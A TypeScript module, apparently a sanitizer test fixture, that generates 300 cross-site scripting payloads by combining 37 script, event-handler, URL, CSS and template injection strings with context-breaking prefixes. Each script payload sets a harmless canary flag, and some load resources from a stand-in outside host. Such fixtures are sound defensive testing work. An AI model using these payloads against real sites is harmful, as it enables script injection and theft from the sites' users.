const call = 'window.__xss=1'

/** Texts that run a script when they are interpreted as HTML, an address, a style or a template. */
const attacks = [
  `<script>${call}</script>`,
  `<ScRiPt >${call}</sCrIpT>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<img src=x onerror=${call}>`,
  `<img/src=x/onerror=${call}//`,
  `<svg onload=${call}>`,
  `<svg><script href=data:,${call} />`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<math><mi xlink:href="javascript:${call}">x`,
  `<iframe srcdoc="<script>parent.__xss=1</script>">`,
  `<iframe src=javascript:parent.__xss=1>`,
  `<a href=javascript:${call}>x</a>`,
  `<a href=" java&Tab;script:${call}">x</a>`,
  `<form><button formaction=javascript:${call}>x`,
  `<details open ontoggle=${call}>`,
  `<input autofocus onfocus=${call}>`,
  `<video><source onerror=${call}>`,
  `<object data=javascript:${call}>`,
  `<base href=//outro.example/>`,
  `<meta http-equiv=refresh content="0;url=//outro.example">`,
  `<link rel=stylesheet href=//outro.example/x.css>`,
  `<style>*{display:none}</style>`,
  `<style>@import"//outro.example/x.css"</style>`,
  `<template><script>${call}</script></template>`,
  `javascript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `url(javascript:${call})`,
  `expression(${call})`,
  `red;background:url(//outro.example/x)`,
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `&#60;img src=x onerror=${call}&#62;`,
  `%3Cscript%3E${call}%3C/script%3E`,
  `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  `\${${call}}`,
  `<%= ${call} %>`,
  `＜script＞${call}＜/script＞`,
  `<!--<script>${call}</script>-->`,
]

/** Prefixes that end the attribute, element or comment around the text. */
const exits: ((attack: string) => string)[] = [
  (attack) => attack,
  (attack) => `">${attack}`,
  (attack) => `'>${attack}`,
  (attack) => `</title>${attack}`,
  (attack) => `</script>${attack}`,
  (attack) => `</style>${attack}`,
  (attack) => `-->]]>${attack}`,
  (attack) => `\u2028';${attack}//`,
  (attack) => `\u202e${attack}`,
]

/** Three hundred texts that do harm when they are interpreted as anything else. */
export const payloads = exits.flatMap((exit) => attacks.map(exit)).slice(0, 300)
